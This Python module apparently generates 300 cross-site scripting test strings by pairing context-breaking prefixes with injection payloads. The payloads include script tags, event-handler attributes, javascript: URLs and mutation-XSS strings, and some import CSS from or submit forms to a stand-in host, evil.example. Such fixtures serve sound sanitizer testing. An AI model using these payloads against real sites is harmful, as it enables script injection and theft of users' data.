"""300 texts that would run, or make elements and attributes, where somebody puts them into HTML as they are."""

from __future__ import annotations

from itertools import product
from typing import Final

_RUNS: Final = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<style>@import 'https://evil.example/x.css';</style>", "<base href=//evil>",
    "<object data=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><button>Send</button></form>",
    "<noscript><p title='</noscript><img src onerror=a()>'>",
    "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>",
    "<x contenteditable onblur=alert(1)>x", "<ScRiPt\\x20type=text/javascript>alert(1)</ScRiPt>", "{{7*7}}{% raw %}",
    "${alert(1)}#{alert(1)}", "https://x.example/\"onmouseover=alert(1)//", "www.x.example/'onclick=alert(1)//",
)  # fmt: skip
_BREAKS_OUT: Final = (
    "{}", "\">{}", "'>{}", "</title>{}", "</textarea>{}", "</style>{}", "</script>{}", "-->{}", "</option></select>{}",
    "]]>{}", "\" onfocus=alert(1) autofocus x=\"{}", "\u202e{}\u2028&lt;&#x3C;script&#62;",
)  # fmt: skip
STRINGS: Final = tuple(before.format(runs)[:200] for before, runs in product(_BREAKS_OUT, _RUNS))
